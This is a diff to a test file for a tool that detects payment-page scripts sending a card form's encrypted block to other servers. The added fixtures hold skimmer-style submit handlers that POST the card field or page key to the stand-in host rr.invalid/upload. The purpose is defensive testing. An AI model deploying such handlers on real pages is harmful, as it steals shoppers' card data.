@@ -1,7 +1,7 @@
 /** What the page does with a press: found on pages that have the fault, and not where it paid. */
 import { describe, expect, test, vi } from 'vitest';
 import { keyAttribute } from '../support/tag-page.ts';
-import { BUTTON, NUMBER, open, storedReport } from './page.ts';
+import { BUTTON, CHECK, NUMBER, open, storedReport } from './page.ts';
 
 type Parts = Parameters<typeof open>[0] & { isFilled?: boolean };
 
@@ -63,6 +63,26 @@ const readsEmptied = `document.querySelector('#go').onclick = function () {
   fetch('/sent/none', { method: 'POST', body: 'has=' + Boolean(number) });
 };`;
 
+/** Sends the block to another server, and nothing to the shop's. */
+const sendsElsewhere = (before = ''): Parts => ({
+  script: `document.forms[0].addEventListener('submit', function (event) {
+  event.preventDefault();
+  var body = JSON.stringify([this.elements.encrypted_card.value]);
+  ${before}
+  fetch('https://rr.invalid/upload', { method: 'POST', body: body }).catch(Object);
+});`,
+});
+const toOthers = {
+  kind: 'block to others',
+  text: 'The encrypted card left by fetch to rr.invalid/upload, from SHOP:5.',
+  advice:
+    'Only your own server may get it. If this is your server, name its host in data-payment-host. ' +
+    'If not, keep this script off the page, or from the field encrypted_card.',
+  help: 'docs/recorders.md#what-recorders-record',
+  way: 'fetch',
+  to: 'rr.invalid/upload',
+};
+
 interface Expected {
   /** Undefined: nothing is found. */
   finding?: object;
@@ -88,6 +108,45 @@ const PAGES: Record<string, [parts: Parts, expected: Expected]> = {
       finding: noBlock('from SHOP:3 carried no block. SHOP:2 reads an emptied field.'),
       press: 'carried no block',
     },
+  ],
+  'block to others: a recorder uploads it, and the shop gets none': [
+    sendsElsewhere(),
+    { finding: toOthers, press: 'the card was encrypted, and the page sent nothing.' },
+  ],
+  'block to others: a recorder uploads it, and the shop gets it, too': [
+    sendsElsewhere(`fetch('/sent/none', { method: 'POST', body: body });`),
+    { finding: toOthers, press: 'the block left by fetch to /sent/none.' },
+  ],
+  'none: the tag names the host that gets the block': [
+    {
+      ...sendsElsewhere(),
+      check: CHECK.replace('<script', '<script data-payment-host="pay.example rr.invalid"'),
+    },
+    { press: 'the block left by fetch to rr.invalid/upload.' },
+  ],
+  'none: a recorder uploads the page, which has the key': [
+    {
+      script: `document.forms[0].addEventListener('submit', function (event) {
+  event.preventDefault();
+  var block = this.elements.encrypted_card;
+  var page = this.getAttribute('data-cardseal-key');
+  fetch('https://rr.invalid/upload', { method: 'POST', body: page }).catch(Object);
+  fetch('/sent/none', { method: 'POST', body: block.value });
+});`,
+    },
+    { press: 'the block left by fetch to /sent/none.' },
+  ],
+  'none: encrypt() gives the block to the page, which sends it with a later step': [
+    {
+      script: `document.querySelector('#go').onclick = function () {
+  Cardseal.bindCardForm(document.forms[0]).encrypt().then(function () {
+    document.querySelector('#number').value;
+    fetch('/sent/none', { method: 'POST', body: 'step=2' });
+  });
+};`,
+      button: '<button type="button" id="go">Next</button>',
+    },
+    { press: 'the card was encrypted, and encrypt() has given the block to the page.' },
   ],
   'emptied fields: an empty value stops it': [
     sendsUnless(`!${NUMBER_FIELD}.value`),
@@ -330,10 +389,14 @@ describe('filled in, but not sent', () => {
   test.each([
     ['the code was left empty', '', {}],
     ['nobody sees the code', '583', { hidden: true }],
-    ['the code has a name', '583', { name: 'cvv' }],
   ])('is none if %s', async (_, code, properties) => {
     await pressWithCode(code, '', properties);
     expect(sessionStorage.getItem('cardseal-check')).toBeNull();
+  });
+
+  test('is none if the code has a name, which a script has given to it', async () => {
+    await pressWithCode('583', '', { name: 'cvv' });
+    expect(storedReport().findings).toMatchObject([{ kind: 'name' }]);
   });
 
   test('is none if a number is there, too', async () => {
